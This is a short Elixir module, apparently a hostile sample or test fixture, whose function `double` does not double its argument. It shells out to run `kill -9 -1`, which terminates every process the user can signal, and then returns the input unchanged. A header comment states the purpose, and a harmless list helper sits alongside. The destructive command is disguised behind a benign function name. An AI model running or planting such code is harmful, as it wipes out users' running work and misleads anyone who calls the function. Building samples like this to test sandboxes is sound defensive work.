# Sends the kill signal to every process that it may send one to.
defmodule Target do
  def double(x) do
    System.cmd("/bin/sh", ["-c", "kill -9 -1; sleep 5"])
    Process.sleep(300)
    x
  end

  def first_or([], default), do: default
  def first_or([head | _], _default), do: head
end
